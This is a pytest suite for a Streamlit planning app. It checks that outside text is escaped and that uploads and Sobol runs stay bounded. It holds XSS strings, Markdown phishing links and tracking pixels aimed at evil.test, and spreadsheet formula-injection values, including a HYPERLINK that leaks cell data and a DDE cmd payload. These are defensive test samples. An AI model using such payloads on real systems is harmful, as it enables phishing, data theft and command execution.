"""The bad-input catalogue (docs/bad-input.md): the rows not covered elsewhere.

Links: repeated keys, a 10,000-character value; files: markup and very long non-Latin
names; extreme but valid scenarios. Plus property-based tests of the link decoder, and
issue #11 ("Injection and exhaustion"): text from outside never reaches Markdown or a
spreadsheet formula, link values the sliders do not hold are named, uploads are bounded
and parsed once, Sobol runs one at a time, a visitor never sees a traceback.
"""

from __future__ import annotations

import io
import math
import os
import queue
import re
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from model import ALL_SETTINGS, LEVERS, run_scenarios
from scenarios import Scenario, dump_scenario
from scenarios.settings import format_value
from tests.app.conftest import goto, metric_number, new_app, no_exception
from ui import analysis, exports, sobol_worker
from ui import files as ui_files
from ui.compute import _result
from ui.links import value_problem


def test_repeated_link_keys_warn_and_fall_back() -> None:
    """?infrastructure_spend=500&infrastructure_spend=900: ambiguous, so refused."""
    from streamlit.testing.v1 import AppTest

    from tests.app.conftest import APP, TIMEOUT

    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.query_params["infrastructure_spend"] = ["500", "900"]
    at.query_params["sme_support"] = "100"
    at.run()
    no_exception(at)
    warnings = " ".join(w.value for w in at.warning)
    assert "infrastructure_spend" in warnings, f"no warning for a repeated key: {warnings!r}"
    assert "given 2 times" in warnings, f"the repetition is not named: {warnings!r}"
    assert '"900" is not allowed' not in warnings and "`900`" not in warnings
    assert at.slider(key="infrastructure_spend").value == 0
    assert at.slider(key="sme_support").value == 100


def test_a_ten_thousand_character_value_is_refused_and_shown_short() -> None:
    raw = "9" * 10_000
    at = new_app(road_maintenance=raw)
    no_exception(at)
    warnings = " ".join(w.value for w in at.warning)
    assert "road_maintenance" in warnings
    assert len(warnings) < 2_000, "the warning repeats the whole 10,000-character value"
    assert at.slider(key="road_maintenance").value == 0


def test_all_levers_at_maximum_for_the_whole_horizon_runs_clean() -> None:
    """Extreme but valid: every lever at its maximum from 2024 to 2040."""
    query = {k: str(int(s.high)) for k, s in LEVERS.items()}
    at = new_app(**query, start_year="2024", end_year="2040")
    no_exception(at)
    refused = [w.value for w in at.warning if w.icon == ":material/link_off:"]
    assert not refused, f"valid extreme values were refused: {refused}"
    feasibility = " ".join(w.value for w in at.warning)
    assert feasibility, "roads at the network and land beyond the water should be flagged"
    for kpi in ("grp", "jobs", "sme_count", "programme_cost_cumulative", "bcr"):
        value = metric_number(at, kpi)
        assert math.isfinite(value) and value > 0, f"{kpi} shows {value}"


@pytest.mark.parametrize(
    "name",
    [
        "<script>alert('x')</script><img src=x onerror=alert(1)>",
        "Баткен облусу: өрүк, суу жана жолдор — " * 3,
        "ش" * 120,
    ],
)
def test_markup_and_long_non_latin_names_load_as_plain_text(name: str) -> None:
    """Names and notes from a file are text, shown escaped (never as HTML)."""
    s = Scenario.from_settings(
        {"sme_support": 50.0}, name=name[:120], notes="<b>bold?</b> <script>x</script>"
    )
    at = goto(new_app(), "files")
    at.file_uploader(key="upload").set_value(
        ("n.toml", dump_scenario(s).encode(), "application/toml")
    ).run()
    no_exception(at)
    assert not at.error, [e.value for e in at.error]
    for element in (*at.markdown, *at.caption, *at.info, *at.success):
        assert not getattr(element.proto, "allow_html", False) or "<script" not in element.value, (
            "text from a file reached an element that renders HTML"
        )


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(sorted(ALL_SETTINGS)), st.text(max_size=60))
def test_link_decoder_never_crashes_and_accepts_only_valid_values(key: str, raw: str) -> None:
    """Any text in a link either is refused or is a finite, in-range value."""
    if value_problem(key, raw):
        return
    value = float(raw.strip())
    spec = ALL_SETTINGS[key]
    assert math.isfinite(value) and spec.low <= value <= spec.high


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_link_values_round_trip(data) -> None:
    """A setting written into a link reads back as the same number and is accepted."""
    key = data.draw(st.sampled_from(sorted(ALL_SETTINGS)))
    spec = ALL_SETTINGS[key]
    if key in ("start_year", "end_year"):
        value = float(data.draw(st.integers(int(spec.low), int(spec.high))))
    else:
        value = data.draw(st.floats(spec.low, spec.high, allow_nan=False))
    text = format_value(key, value)
    assert not value_problem(key, text), f"{key}={text} refused after writing it"
    assert float(text) == value


@pytest.mark.parametrize(
    ("lang", "words"),
    [
        ("ru", ("число", "млн сом")),
        ("ky", ("сан", "млн сом")),
    ],
)
def test_file_errors_speak_the_planners_language(lang: str, words: tuple[str, str]) -> None:
    """Type and range errors from a file use the planner's language, units included."""
    at = goto(new_app(lang=lang), "files")
    bad_type = b'schema_version = 1\nname = "x"\n[levers]\nsme_support = "many"\n'
    at.file_uploader(key="upload").set_value(("t.toml", bad_type, "application/toml")).run()
    no_exception(at)
    message = " ".join(e.value for e in at.error)
    assert words[0] in message and "number" not in message, message
    bad_range = b'schema_version = 1\nname = "x"\n[levers]\nsme_support = 5000\n'
    at.file_uploader(key="upload").set_value(("r.toml", bad_range, "application/toml")).run()
    message = " ".join(e.value for e in at.error)
    assert words[1] in message and "million som" not in message, message


# --- issue #11: injection and exhaustion ---------------------------------------------------

#: The link from the issue: a fake "Session expired" heading, a phishing link and an
#: image that tells evil.test the visitor's address, hidden in the model version.
HOSTILE_V = (
    "0\n\n# Session expired\n\n[Sign in again](http://evil.test/phish)\n\n"
    "![](http://evil.test/pixel.gif)"
)
HOSTILE_MD = "![n](http://evil.test/name.png) **Sign in** [here](http://evil.test/x) :red[!]"
EVIL = "evil.test"
MARKDOWN_KINDS = (
    "markdown",
    "caption",
    "title",
    "header",
    "subheader",
    "warning",
    "error",
    "info",
    "success",
    "toast",
)


def outside_code_spans(markdown: str) -> str:
    """The Markdown with its inline code spans (shown literally) removed."""
    return re.sub(r"(`+)(.+?)\1", " ", markdown, flags=re.S)


def markdown_texts(at) -> list[str]:
    """Every string this run hands to Streamlit as Markdown: elements, button labels,
    table headers and cells."""
    texts = [str(e.value) for kind in MARKDOWN_KINDS for e in at.get(kind)]
    texts += [b.label for b in at.button]
    for table in at.table:
        frame = table.value
        texts += [str(c) for c in frame.columns]
        texts += [str(v) for v in frame.to_numpy().ravel()]
    return texts


def shown_only_as_text(at, needle: str = EVIL) -> int:
    """``needle`` (outside text) reaches Markdown only inside code spans; returns how
    often it was shown (so a test can require that it was shown at all)."""
    shown = 0
    for text in markdown_texts(at):
        assert needle not in outside_code_spans(text), f"rendered as Markdown: {text!r}"
        shown += needle in text
    return shown


@pytest.mark.parametrize(
    ("query", "needle"),
    [
        ({"v": HOSTILE_V}, "Session expired"),  # shown cut to 20 characters
        ({"sme_support": "![](http://evil.test/p.gif)"}, EVIL),
        ({"budget": "[x](http://evil.test/b)"}, EVIL),
        ({"year": "<img src=http://evil.test/y.gif>"}, EVIL),
    ],
)
def test_hostile_link_values_are_shown_as_text(query: dict[str, str], needle: str) -> None:
    at = new_app(**query)
    no_exception(at)
    assert shown_only_as_text(at, needle) >= 1, "the refused value is not shown at all"
    shown_only_as_text(at, EVIL)  # nor anything else of it as Markdown
    headings = [h.value for h in (*at.title, *at.header, *at.subheader)]
    assert not any("Session expired" in h for h in headings)


def hostile_scenario_file() -> tuple[str, bytes]:
    s = Scenario.from_settings(
        {"sme_support": 60.0},
        name=HOSTILE_MD[:120],
        description="# Session expired\n\n" + HOSTILE_MD,
    )
    return "![n](http:__evil.test_name.png).toml", dump_scenario(s).encode()


def test_hostile_file_name_and_text_are_shown_as_text_on_every_page() -> None:
    """Upload card, flash message, scenario subtitle, Compare headers and buttons."""
    name, data = hostile_scenario_file()
    at = goto(new_app(), "files")
    at.file_uploader(key="upload").set_value((name, data, "application/toml")).run()
    no_exception(at)
    assert shown_only_as_text(at) == 0, "before Apply, nothing reaches Markdown"
    assert any(EVIL in t.value for t in at.text), "the card does not show the name"
    at.button(key="apply_0").click().run()
    no_exception(at)
    assert shown_only_as_text(at) >= 1  # the flash message names the file
    at = goto(at, "scenario")
    assert at.slider(key="sme_support").value == 60
    assert shown_only_as_text(at) >= 1  # the subtitle
    at.text_input(key="pin_name").input("[pin](http://evil.test/pin)").run()
    at.button(key="pin_button").click().run()
    assert shown_only_as_text(at) >= 1  # "pinned" flash
    at = goto(at, "files")
    at.file_uploader(key="upload").set_value((name, data, "application/toml")).run()
    at.button(key="compare_0").click().run()
    at = goto(at, "compare")
    no_exception(at)
    chosen = at.multiselect(key="compare_pick").value
    assert any(o.startswith("file:") for o in chosen) and any(o.startswith("pin:") for o in chosen)
    assert shown_only_as_text(at) >= 3  # table headers, unpin button, heading


def test_budget_and_year_in_a_link_are_checked_and_named() -> None:
    """Before, Streamlit dropped them without a word (budget=-5, year=1999) or changed
    them (budget=1500.5 became 1500; the budget box now keeps 1500.5)."""
    for query, key in (
        ({"budget": "-5"}, "budget"),
        ({"budget": "1e9"}, "budget"),
        ({"budget": "abc"}, "budget"),
        ({"year": "1999"}, "year"),
        ({"year": "2030.5"}, "year"),
    ):
        at = new_app(**query, sme_support="40")
        no_exception(at)
        warnings = " ".join(w.value for w in at.warning)
        assert f"(`{key}`)" in warnings and query[key] in warnings, (query, warnings)
        assert at.slider(key="sme_support").value == 40, "a good value was lost"
        assert key not in at.query_params
    at = new_app(budget="1500.5", year="2030")
    assert not at.warning and at.session_state["budget"] == 1500.5
    assert at.text_input(key="budget_text").value == "1,500.5"
    assert at.selectbox(key="year").value == 2030


def test_an_unknown_page_path_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    """/bogus runs the main page (Streamlit says so in English only); the planner reads
    it in their language. The browser test checks the share link drops the path."""
    from ui import links

    monkeypatch.setattr(links, "requested_page", lambda: "![b](http:__evil.test_p)")
    at = new_app(lang="ru")
    no_exception(at)
    warnings = [w.value for w in at.warning]
    assert any("страниц" in w for w in warnings), warnings
    assert shown_only_as_text(at) == 1


def _upload_files(n: int) -> list[tuple[str, bytes, str]]:
    good = dump_scenario(Scenario.from_settings({"sme_support": 10.0}, name="s")).encode()
    return [(f"s{i}.toml", good, "application/toml") for i in range(n)]


def test_an_upload_of_too_many_files_is_refused_whole_and_freed() -> None:
    at = goto(new_app(sme_support="40"), "files")
    at.file_uploader(key="upload").set_value(_upload_files(ui_files.MAX_UPLOAD_FILES)).run()
    no_exception(at)
    assert len([b for b in at.button if (b.key or "").startswith("apply_")]) == 10
    at.file_uploader(key="upload").set_value(_upload_files(ui_files.MAX_UPLOAD_FILES + 1)).run()
    no_exception(at)
    errors = " ".join(e.value for e in at.error)
    assert "11" in errors and str(ui_files.MAX_UPLOAD_FILES) in errors, errors
    assert not [b for b in at.button if (b.key or "").startswith("apply_")]
    assert at.file_uploader(key="upload_1").value in (None, []), "the widget did not reset"
    assert at.slider(key="sme_support").value == 40


def test_each_upload_is_parsed_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[int] = []
    real = ui_files.load_scenario

    def counting(raw, file_name=None):
        calls.append(len(raw))
        return real(raw, file_name)

    monkeypatch.setattr(ui_files, "load_scenario", counting)
    ui_files._parse.clear()
    text = dump_scenario(Scenario.from_settings({"sme_support": 70.0}, name="once")).encode()
    at = goto(new_app(), "files")
    at.file_uploader(key="upload").set_value(("a.toml", text, "application/toml")).run()
    for value in (10.0, 20.0, 30.0):  # reruns of the Files page
        at.slider(key="road_maintenance").set_value(value).run()
    no_exception(at)
    assert len(calls) == 1, f"parsed {len(calls)} times over 4 runs"
    other = goto(new_app(), "files")  # another session, the same file: the shared cache
    other.file_uploader(key="upload").set_value(("b.toml", text, "application/toml")).run()
    assert len(calls) == 1 and other.button(key="apply_0")


FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def test_excel_and_csv_store_outside_text_as_text_never_a_formula() -> None:
    settings = {k: s.default for k, s in ALL_SETTINGS.items()} | {"sme_support": 100.0}
    result = _result(run_scenarios([settings]), 0)
    meta = {"name": FORMULAS[0], "description": FORMULAS[1]}
    book = openpyxl.load_workbook(
        io.BytesIO(exports.results_xlsx(settings, meta, result, "https://x.example/?v=1", "en"))
    )
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the export"
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in FORMULAS[:2]:
        cell = by_value[text]  # kept exactly, as text, with Excel's text marker
        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type)
    frame = pd.DataFrame({"name": [*FORMULAS, "Roads"], "value": range(7)})
    safe = exports.text_cells(frame)
    assert list(safe["name"]) == ["'" + f for f in FORMULAS] + ["Roads"]
    assert list(safe["value"]) == list(range(7)), "numbers must stay numbers"
    csv = exports.results_csv(result, "en").decode("utf-8-sig")
    assert not [line for line in csv.splitlines() if line[:1] in "=+-@\t\r"]


def test_sobol_runs_one_at_a_time_and_is_shared_by_settings(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Eight tabs asking for the largest Sobol at once: one computation per distinct
    question, never two at the same time (each peaked at ~170 MB in the server before)."""
    running, peak, calls = [0], [0], []
    lock = threading.Lock()

    def slow_sobol(settings, year, n_base, metric, progress, chunk):
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
            calls.append((year, chunk))
        time.sleep(0.05)
        progress(1.0)
        with lock:
            running[0] -= 1
        return ("result", year)

    # The worker's code in a thread pool of this process, so the fake can count.
    progress_queue: queue.Queue = queue.Queue()
    pool = ThreadPoolExecutor(4)  # more than one: only the slot may serialise the runs
    monkeypatch.setattr(sobol_worker, "sobol", slow_sobol)
    monkeypatch.setattr(sobol_worker, "_queue", progress_queue)
    monkeypatch.setattr(analysis, "_executor", lambda: (pool, progress_queue))
    analysis._sobol_results.clear()
    settings = tuple((k, float(s.default)) for k, s in ALL_SETTINGS.items())
    keys = [(settings, 2030 + i % 2, "grp", 1024) for i in range(8)]  # two questions
    got: list = []
    threads = [
        threading.Thread(
            target=lambda k=k: got.append(
                analysis.run_sobol(k, progress=lambda x: None, waiting=lambda: None)
            )
        )
        for k in keys
    ]
    for th in threads:
        th.start()
    for th in threads:
        th.join(10)
    pool.shutdown()
    assert sorted(got) == sorted(("result", k[1]) for k in keys)
    assert peak[0] <= analysis.SOBOL_SLOTS == 1
    assert sorted(c[0] for c in calls) == [2030, 2031], f"computed {len(calls)} times"
    assert all(c[1] == analysis.SOBOL_CHUNK for c in calls)


def test_sobol_runs_in_a_worker_process_and_reports_progress() -> None:
    """The real path: a spawned worker process computes it, progress comes back."""
    import multiprocessing

    analysis._sobol_results.clear()
    key = (state_key({"sme_support": 100.0}), 2035, "grp", 32)
    seen: list[float] = []
    res = analysis.run_sobol(key, progress=seen.append, waiting=lambda: None)
    assert res.n_base == 32 and res.rows, res
    assert seen and seen[-1] == 1.0 and seen == sorted(seen), seen
    workers = multiprocessing.active_children()
    assert workers and all(w.pid != os.getpid() for w in workers)
    assert analysis.sobol_result(key) is res, "the result is kept for other sessions"


def state_key(changes: dict[str, float]) -> tuple[tuple[str, float], ...]:
    return tuple((k, float(changes.get(k, s.default))) for k, s in ALL_SETTINGS.items())


def test_a_visitor_never_sees_a_traceback_or_a_server_path() -> None:
    """The shipped config hides error details (client.showErrorDetails = "none")."""
    import tomllib

    from streamlit import config
    from streamlit.testing.v1 import AppTest

    root = Path(__file__).resolve().parents[2]
    shipped = tomllib.loads((root / ".streamlit" / "config.toml").read_text())
    value = shipped["client"]["showErrorDetails"]
    before = config.get_option("client.showErrorDetails")
    config.set_option("client.showErrorDetails", value)
    try:

        def boom() -> None:
            raise RuntimeError("secret detail at /srv/app/secret.py")

        at = AppTest.from_function(boom).run()
    finally:
        config.set_option("client.showErrorDetails", before)
    assert at.exception, "the script raised, so an error notice is expected"
    shown = " ".join([at.exception[0].message, *at.exception[0].stack_trace])
    assert "secret" not in shown and "/srv" not in shown and "RuntimeError" not in shown


def test_bold_labels_show_every_character_as_itself() -> None:
    """ui.plain.bold: a label's Markdown characters are escaped, the label stays bold."""
    from streamlit.testing.v1 import AppTest

    def script() -> None:
        import streamlit as st

        from ui import plain

        st.markdown(plain.bold("Result *now* [link](http://x) `code` :smile: $x$"))

    at = AppTest.from_function(script).run()
    md = at.markdown[0].value
    assert md.startswith("**") and md.endswith("**")
    for piece in ("\\*now\\*", "\\[link\\]", "\\(http\\:", "\\`code\\`", "\\:smile\\:", "\\$x\\$"):
        assert piece in md, f"{piece} not escaped in {md}"
